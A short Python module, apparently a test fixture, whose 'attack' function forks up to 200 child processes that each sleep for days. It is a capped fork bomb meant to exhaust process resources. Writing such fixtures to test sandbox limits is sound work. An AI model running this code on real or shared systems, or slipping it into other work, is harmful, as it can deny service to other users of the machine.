"""Forks until it is stopped, within reason: two hundred processes that wait."""

import os
import time


def attack(*args, **kwargs):
    for _ in range(200):
        try:
            if os.fork() == 0:
                time.sleep(1e6)
        except OSError:
            break
    return None
